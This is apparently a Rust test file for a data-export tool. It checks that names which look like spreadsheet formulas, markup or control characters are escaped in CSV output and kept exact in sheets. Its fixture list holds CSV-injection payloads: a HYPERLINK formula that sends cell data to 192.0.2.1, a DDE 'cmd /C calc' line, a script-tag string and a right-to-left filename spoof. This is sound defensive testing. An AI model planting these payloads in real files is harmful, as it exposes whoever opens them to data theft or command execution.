//! Names that are formulas, markup, right-to-left text and control characters: no table and no sheet runs or changes them.
#![expect(clippy::unwrap_used, reason = "a test may stop at the first surprise")]

use byline::csv_safe::unescaped;
use calamine::Data;
use serde_json::json;

use crate::harness::{Export, Run};
use crate::workbook::{rows, sheets};

/// What somebody may be called.
fn names() -> Vec<String> {
    let names = [
        "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"open\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "＝1+1",
        "＠x",
        "'t Hart",
        "'=1",
        "\u{feff}=1",
        "\u{202e}=1",
        "Dana;=1+1",
        "Dana\n=1+1",
        "<script>alert(1)</script>",
        "&amp; ]]> <!-- -->",
        "\u{5d3}\u{5e0}\u{5d4} \u{202e}gnp.exe",
        "bell\u{7}\u{1b}[31m\u{9b}",
        "_x0041_ and _x000D_",
        "non-characters \u{fffe}\u{ffff}",
        "\"quoted\", twice",
        "-5",
        "0123",
        "TRUE",
        "1E5",
        "2026-10-30",
    ];
    let mut names: Vec<String> = names.map(str::to_owned).to_vec();
    names.push("ä".repeat(32_767));
    names
}

const USER: &str = "0055j0000009";

fn export() -> Export {
    let mut users = csv::Writer::from_writer(Vec::new());
    users
        .write_record(["Id", "Username", "Name", "UserType", "IsActive"])
        .unwrap();
    for (number, name) in names().iter().enumerate() {
        let id = format!("{USER}{number:03}");
        let username = format!("={number}@example.org");
        users
            .write_record([&*id, &username, name, "Standard", "true"])
            .unwrap();
    }
    let stamp = "2026-10-20T10:00:00.000Z";
    let record = format!("0015j000000Ud77,{USER}000,{USER}000,{stamp},{USER}001,{stamp},{stamp}\n");
    let header =
        "Id,OwnerId,CreatedById,CreatedDate,LastModifiedById,LastModifiedDate,SystemModstamp";
    let log = "EVENT_TYPE,TIMESTAMP_DERIVED,USER_ID,REQUEST_ID,CLIENT_NAME";
    Export::new()
        .file("User.csv", users.into_inner().unwrap())
        .file("Account.csv", format!("{header}\n{record}"))
        .file(
            "log.csv",
            format!("{log}\nRestApi,{stamp},{USER}002,a1,=Form & Co\n"),
        )
}

fn column(run: &Run, file: &str, name: &str) -> Vec<String> {
    let rows = rows(run, file);
    let place = rows[0].iter().position(|it| it == name).unwrap();
    rows[1..].iter().map(|row| row[place].clone()).collect()
}

fn sheet_column(run: &Run, sheet: &str, name: &str) -> Vec<String> {
    let sheets = sheets(run);
    let mut rows = sheets[sheet].rows();
    let header = rows.next().unwrap();
    let place = header
        .iter()
        .position(|it| *it == Data::String(name.to_owned()));
    let text = |row: &[Data]| match &row[place.unwrap()] {
        Data::String(text) => text.clone(),
        Data::Empty => String::new(),
        other => unreachable!("{other:?} is no text"),
    };
    rows.map(text).collect()
}

#[test]
fn no_cell_begins_like_a_formula_and_every_value_comes_back() {
    let export = export();
    let safe = export.analyze().run();
    assert_eq!((safe.code, safe.stderr.as_str()), (0, ""));
    let explained = export.beside(&["explain", "out", "=3@example.org"]).run();
    assert_eq!(explained.code, 0, "{}", explained.stderr);
    let told = "=3@example.org  a login, 0055j0000009003AAA";
    assert!(explained.stdout.starts_with(told), "{}", explained.stdout);
    let raw = export.analyze().args(["--csv-safe=false"]).run();
    assert_eq!((raw.code, raw.stderr.as_str()), (0, ""));
    let explained_raw = export.beside(&["explain", "out", "=3@example.org"]).run();
    assert_eq!(explained_raw.stdout, explained.stdout);

    let mut marked = 0;
    for (path, bytes) in &safe.files {
        if !path.ends_with(".csv") {
            let same = path == "manifest.json" || raw.file(path) == bytes;
            assert!(same, "{path} is not exact");
            continue;
        }
        for (row, exact) in rows(&safe, path).iter().zip(rows(&raw, path)) {
            for (cell, exact) in row.iter().zip(exact) {
                let begins =
                    cell.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t', '\r']);
                assert!(!begins || cell == "-5", "{cell:?} in {path}");
                assert_eq!(unescaped(cell), exact, "{path}");
                marked += usize::from(*cell != exact);
            }
        }
    }
    assert!(marked > 30, "only {marked} cells are marked");
    assert_eq!(column(&raw, "identities.csv", "name"), names());
    let flag = |run: &Run| run.json("manifest.json")["flags"]["csv_safe"].clone();
    assert_eq!((flag(&safe), flag(&raw)), (json!(true), json!(false)));
}

#[test]
fn sheets_hold_hostile_names_as_they_are() {
    let run = export().analyze().run();
    assert_eq!((run.code, run.stderr.as_str()), (0, ""));
    assert_eq!(sheet_column(&run, "clients", "client"), ["=Form & Co"]);
    let usernames = sheet_column(&run, "identities", "username");
    assert_eq!(usernames[24], "=24@example.org");
    // The reader leaves the escapes of control characters as Excel writes them.
    let decoded = |text: &str| {
        let mut text = text.to_owned();
        for code in ["0007", "001B", "FFFE", "FFFF"] {
            let c = char::from_u32(u32::from_str_radix(code, 16).unwrap()).unwrap();
            text = text.replace(&format!("_x{code}_"), &c.to_string());
        }
        text.replace("_x005F_", "_")
    };
    let shown: Vec<String> = sheet_column(&run, "identities", "name")
        .iter()
        .map(|name| decoded(name))
        .collect();
    assert_eq!(shown, names());
}

/// More than a cell of a spreadsheet takes.
#[test]
fn what_is_too_long_is_cut_and_told() {
    let long = "x".repeat(40_000);
    let run = Export::new()
        .file(
            "User.csv",
            format!(
                "Id,Username,Name,UserType,IsActive\n{USER}000,a@example.org,{long},Standard,true\n"
            ),
        )
        .analyze()
        .run();
    assert_eq!((run.code, run.stderr.as_str()), (0, ""));
    let name = sheet_column(&run, "identities", "name").remove(0);
    assert_eq!(name.len(), 32_767);
    assert!(name.ends_with("x [cut]"));
    assert_eq!(column(&run, "identities.csv", "name"), [long]);
    let sheets = sheets(&run);
    let told = |begin: &str| {
        let mut lines = sheets["About"].rows();
        lines
            .find(|row| row[0].to_string().starts_with(begin))
            .unwrap()
            .to_vec()
    };
    assert_eq!(told("identities")[4], Data::Float(1.0));
    told("A sheet with an orange tab does not have all of its table");
}
